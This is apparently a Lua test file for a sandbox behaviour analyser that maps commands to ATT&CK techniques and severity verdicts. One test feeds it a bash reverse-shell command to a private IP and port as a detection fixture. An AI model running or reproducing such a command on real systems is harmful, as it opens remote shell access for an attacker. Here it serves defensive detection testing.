-- SPDX-License-Identifier: MIT
-- Techniques simply present, named at info severity (0 to 2): a shell
-- script run, a Python program, discovery, an archive made.  Each is listed
-- in the findings with its ATT&CK id, in the text, the JSON line and the
-- HTML page, and the run's verdict stays clean; a more severe rule of the
-- same id (a shell wired to a socket) makes the verdict, and the id is
-- counted once: in the behaviour summary's mitre_attack_techniques (from
-- its most severe finding) and in batch's tally of techniques.
-- scripts/test.sh runs this file as root and as uid 65534.
local S = require "support"
local verdict = require "sbx.verdict"
local behaviour = require "sbx.behaviour"
local batch = require "sbx.batch"
local cjson = require "cjson"

local RULES = assert(verdict.defaults())

local function exec(pid, ppid, path, argv)
	return { kind = "exec", pid = pid, ppid = ppid, path = path, argv = argv, answer = "allow" }
end

-- the findings of a judgement by rule name
local function by_rule(v)
	local t = {}
	for _, f in ipairs(v.reasons) do t[f.rule] = f end
	return t
end

describe("info-level naming [" .. S.priv .. "]", function()
	it("a shell script, Python, discovery and an archive: listed with their ids, the run clean", function()
		local run = { outcome = "exit", exit_code = 0, events = {
			exec(2, 1, "/work/setup.sh", { "/work/setup.sh" }),
			exec(3, 2, "/usr/bin/uname", { "uname", "-a" }),
			exec(4, 2, "/usr/bin/hostname", { "hostname" }),
			exec(5, 2, "/usr/bin/tar", { "tar", "-czf", "/work/out.tgz", "src" }),
			exec(6, 2, "/usr/bin/python3", { "python3", "/work/tool.py" }) } }
		local v = verdict.judge(run, RULES)
		assert.are.same({ "clean", 0 }, { v.verdict, v.severity })
		local f = by_rule(v)
		for rule, id in pairs { shell_script = "T1059.004", python_script = "T1059.006", system_info = "T1082",
			host_name = "T1082", archive_made = "T1560.001" } do
			assert.is_table(f[rule], rule .. " did not fire")
			assert.are.same({ "info", { id } }, { f[rule].verdict, f[rule].attack }, rule)
			assert.is_true(f[rule].severity <= 2, rule)
		end
		-- the text report: the verdict line, then one line per finding
		local text = verdict.text(v)
		assert.matches("^verdict: clean %(severity 0%)\n", text)
		assert.matches("\nfinding: shell_script %[T1059%.004%]: ran a Unix shell script %(information%)", text)
		assert.matches("\nfinding: archive_made %[T1560%.001%]: made an archive", text)
	end)

	it("a suspicious and an info rule of one id: the verdict from the first, the id counted once", function()
		local run = { outcome = "exit", exit_code = 0, events = {
			exec(2, 1, "/work/x.sh", { "/work/x.sh" }),
			exec(3, 2, "/bin/bash", { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.2/4444 0>&1" }) } }
		local v = verdict.judge(run, RULES)
		local f = by_rule(v)
		assert.are.same({ "malicious", "info" }, { f.reverse_shell.verdict, f.shell_script.verdict })
		assert.are.same({ "malicious", 9 }, { v.verdict, v.severity })
		local s = behaviour.judged({}, v)
		local seen = {}
		for _, t in ipairs(s.mitre_attack_techniques) do
			assert.is_nil(seen[t.id], t.id .. " listed twice")
			seen[t.id] = t
		end
		assert.are.same({ "reverse_shell", "IMPACT_SEVERITY_HIGH" },
			{ seen["T1059.004"].rule, seen["T1059.004"].severity })
		local sum = batch.summary { { program = "x.sh", verdict = v.verdict, outcome = "exit", reasons = v.reasons } }
		assert.are.equal(1, sum.techniques["T1059.004"])
	end)

	it("a real run: the JSON line and the HTML page list the info findings, the verdict clean", function()
		local d, rm = S.tmpdir()
		os.execute("chmod 755 " .. S.q(d))
		S.write(d .. "/look.sh", "#!/bin/sh\nuname -a\nhostname\nid\ntar -cf /tmp/t.tar -C /work look.sh\n")
		os.execute("chmod 755 " .. S.q(d .. "/look.sh"))
		local html = d .. "/html"
		local out, code = S.sh(S.bin .. " batch.lua -j 1 --wall 15 --progress never --html " .. S.q(html) .. " "
			.. S.q(d .. "/look.sh") .. " 2>/dev/null </dev/null")
		assert.are.equal(0, code)
		local rec = cjson.decode(out:match("[^\n]+"))
		assert.are.same({ "exit", 0, "clean" }, { rec.outcome, rec.exit_code, rec.verdict })
		local ids = {}
		for _, f in ipairs(rec.reasons) do
			assert.are.equal("info", f.verdict, f.rule)
			for _, id in ipairs(f.attack or {}) do ids[id] = true end
		end
		for _, id in ipairs { "T1059.004", "T1082", "T1033", "T1560.001" } do
			assert.is_true(ids[id], id .. " not named")
		end
		-- the page (named by a hash) has the finding's row: rule, verdict, id
		local ls = io.popen("ls " .. S.q(html))
		local page
		for name in ls:lines() do
			if name ~= "index.html" then page = S.read(html .. "/" .. name) end
		end
		ls:close()
		assert.is_string(page)
		assert.matches("verdict: <b>clean</b>", page, 1, true)
		assert.matches("<code>shell_script</code>", page, 1, true)
		assert.matches("T1560.001", page, 1, true)
		rm()
	end)
end)
